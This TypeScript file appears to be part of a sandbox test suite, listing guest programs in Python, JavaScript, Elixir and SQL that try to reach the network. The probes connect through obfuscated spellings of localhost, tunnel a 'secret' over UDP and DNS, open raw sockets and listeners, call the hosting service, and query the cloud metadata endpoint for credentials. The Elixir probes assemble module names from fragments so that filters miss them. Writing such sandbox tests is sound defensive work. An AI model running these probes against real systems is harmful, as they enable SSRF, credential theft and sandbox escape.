import type { Attack, NotApplicable } from "../attack.ts";
import { script } from "../attack.ts";

/** Every spelling of this machine. */
const HOSTS = [
  "127.0.0.1",
  "localhost",
  "localhost.",
  "127.1",
  "2130706433",
  "0x7f000001",
  "0177.0.0.1",
  "0.0.0.0",
  "[::1]",
  "[::ffff:127.0.0.1]",
  "127.0.0.1\\u0000.example.com",
];

/** Ways to a network. */
export const NETWORK: readonly Attack[] = [
  {
    name: "tcp",
    peersCase: 47,
    title: "connects by every spelling of this machine's address",
    category: "network",
    actor: "program",
    wall: "doors",
    effect: "connects",
    programs: {
      python: `import socket
seen = []
for host in ${JSON.stringify(HOSTS)}:
    for family in (socket.AF_INET, socket.AF_INET6) if hasattr(socket, "AF_INET6") else (2,):
        try:
            s = socket.socket(family, socket.SOCK_STREAM)
            s.settimeout(0.05)
            s.connect((host.strip("[]"), {{PORT}}))
            s.send(b"x")
        except BaseException as error: seen.append(type(error).__name__)
seen`,
      javascript: `const seen = [];
for (const host of ${JSON.stringify(HOSTS)}) {
  try { seen.push(await (await fetch("http://" + host + ":{{PORT}}/")).text()); } catch (error) { seen.push(error.name); }
  try { seen.push(String(require("net").connect({{PORT}}, host))); } catch (error) { seen.push(error.name); }
  try { const r = new XMLHttpRequest(); r.open("GET", "http://" + host + ":{{PORT}}/", false); r.send(); } catch (error) { seen.push(error.name); }
  try { new WebSocket("ws://" + host + ":{{PORT}}/"); } catch (error) { seen.push(error.name); }
}
seen`,
      typescript: `const reply: Response = await fetch("http://127.0.0.1:{{PORT}}/", { redirect: "follow" });
await reply.text()`,
      sql: {
        source: "select * from read_csv('http://127.0.0.1:{{PORT}}/x.csv')",
        wall: "sqlSettings",
      },
      elixir: {
        source: `t = String.to_atom("gen_" <> "tcp")
for host <- [{127, 0, 0, 1}, {0, 0, 0, 0}, {0, 0, 0, 0, 0, 0, 0, 1}, {0, 0, 0, 0, 0, 65535, 32512, 1}, ~c"localhost", ~c"127.1", ~c"2130706433"] do
  inspect(apply(t, :connect, [host, {{PORT}}, [], 50]))
end`,
        wall: "cage",
      },
    },
  },
  {
    name: "http-client",
    peersCase: 47,
    title: "asks for a page by the language's own client",
    category: "network",
    actor: "program",
    wall: "doors",
    effect: "connects",
    programs: {
      python: `from urllib.request import urlopen
urlopen("http://127.0.0.1:{{PORT}}/", timeout=0.2).read()`,
      javascript: `require("http").get("http://127.0.0.1:{{PORT}}/")`,
      elixir: {
        source: `h = String.to_atom("ht" <> "tpc")
apply(h, :request, [~c"http://127.0.0.1:{{PORT}}/"]) |> inspect()`,
        wall: "cage",
      },
      sql: {
        source: "attach 'http://127.0.0.1:{{PORT}}/x.db' as x; select 1",
        wall: "sqlSettings",
      },
    },
    mustEnd: ["guest_error", "refused", "ok"],
  },
  {
    name: "udp-dns",
    peersCase: 47,
    title: "sends datagrams, and tunnels a secret through a name",
    category: "network",
    actor: "program",
    wall: "doors",
    effect: "connects",
    programs: {
      python: `import socket
seen = []
for attempt in [
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", {{PORT}})),
    lambda: socket.getaddrinfo("secret.example.com", 80),
    lambda: socket.gethostbyname("localhost"),
]:
    try: seen.append(str(attempt()))
    except BaseException as error: seen.append(type(error).__name__)
seen`,
      javascript: `const s = require("dgram").createSocket("udp4"); s.send("secret", {{PORT}}, "127.0.0.1")`,
      elixir: {
        source: `u = String.to_atom("gen_" <> "udp")
opened = apply(u, :open, [0])
sent = case opened do
  {:ok, s} -> apply(u, :send, [s, {127, 0, 0, 1}, {{PORT}}, "secret"])
  other -> other
end
i = String.to_atom("in" <> "et")
[inspect(sent), inspect(apply(i, :getaddr, [~c"secret.example.com", :inet])), inspect(apply(String.to_atom("inet_" <> "res"), :lookup, [~c"x.example.com", :in, :a, [nameservers: [{{{127, 0, 0, 1}, {{PORT}}}}], timeout: 100, retry: 1]]))]`,
        wall: "cage",
      },
    },
  },
  {
    name: "socket-module",
    peersCase: 47,
    title: "opens raw and local sockets below the usual modules",
    category: "network",
    actor: "program",
    wall: "doors",
    effect: "connects",
    programs: {
      python: `import _socket
s = _socket.socket(2, 1)
s.connect(("127.0.0.1", {{PORT}}))`,
      elixir: {
        source: `m = String.to_atom("soc" <> "ket")
for domain <- [:inet, :inet6, :local] do
  case apply(m, :open, [domain, :stream, :default]) do
    {:ok, s} -> inspect(apply(m, :connect, [s, %{family: :inet, addr: {127, 0, 0, 1}, port: {{PORT}}}]))
    other -> inspect(other)
  end
end`,
        wall: "cage",
      },
    },
  },
  {
    name: "metadata-service",
    peersCase: 47,
    title: "asks the cloud's metadata service for credentials",
    category: "network",
    actor: "program",
    wall: "doors",
    effect: "runs_on",
    programs: {
      python: `from urllib.request import urlopen
urlopen("http://169.254.169.254/latest/meta-data/", timeout=5).read()`,
      javascript: `await (await fetch("http://169.254.169.254/latest/meta-data/")).text()`,
      elixir: {
        source: `{:ok, s} = apply(String.to_atom("gen_" <> "tcp"), :connect, [{169, 254, 169, 254}, 80, [], 5_000])
inspect(s)`,
        wall: "cage",
      },
      sql: {
        source: "select * from read_text('http://169.254.169.254/latest/meta-data/')",
        wall: "sqlSettings",
      },
    },
    mustEnd: ["guest_error", "refused"],
  },
  {
    name: "listen",
    peersCase: 47,
    title: "listens itself, to relay what others send",
    category: "network",
    actor: "program",
    wall: "doors",
    effect: "passes_limit",
    programs: {
      python: `import socket
s = socket.socket()
s.bind(("0.0.0.0", 0))
s.listen(1)
s.getsockname()`,
      javascript: `require("net").createServer().listen(0)`,
      elixir: {
        source: `{:ok, s} = apply(String.to_atom("gen_" <> "tcp"), :listen, [0, []])
inspect(s)`,
        wall: "cage",
      },
    },
    mustEnd: ["guest_error", "refused"],
  },
  {
    name: "own-http-port",
    peersCase: 48,
    title: "calls the service that runs it, to have more run",
    category: "network",
    actor: "program",
    wall: "doors",
    effect: "connects",
    programs: {
      python: `from urllib.request import urlopen
urlopen("{{SERVICE_URL}}/v1/languages", timeout=0.3).read().decode()`,
      ...script(`await (await fetch("{{SERVICE_URL}}/v1/languages")).text()`),
      sql: {
        source: "select content from read_text('{{SERVICE_URL}}/v1/languages')",
        wall: "sqlSettings",
      },
      elixir: {
        source: `{:ok, s} = apply(String.to_atom("gen_" <> "tcp"), :connect, [~c"127.0.0.1", {{SERVICE_PORT}}, [:binary, active: false], 300])
apply(String.to_atom("gen_" <> "tcp"), :send, [s, "GET /v1/languages HTTP/1.0\\r\\n\\r\\n"])
apply(String.to_atom("gen_" <> "tcp"), :recv, [s, 0, 300]) |> inspect()`,
        wall: "cage",
      },
    },
    mustEnd: ["guest_error", "refused"],
  },
];

export const NETWORK_NOT_APPLICABLE: readonly NotApplicable[] = [
  {
    name: "slow-loris-tool",
    peersCase: 44,
    title: "waits for a tool that ignores being aborted",
    category: "network",
    reason: "a program is given no tools: nothing of the host runs on its behalf",
  },
];
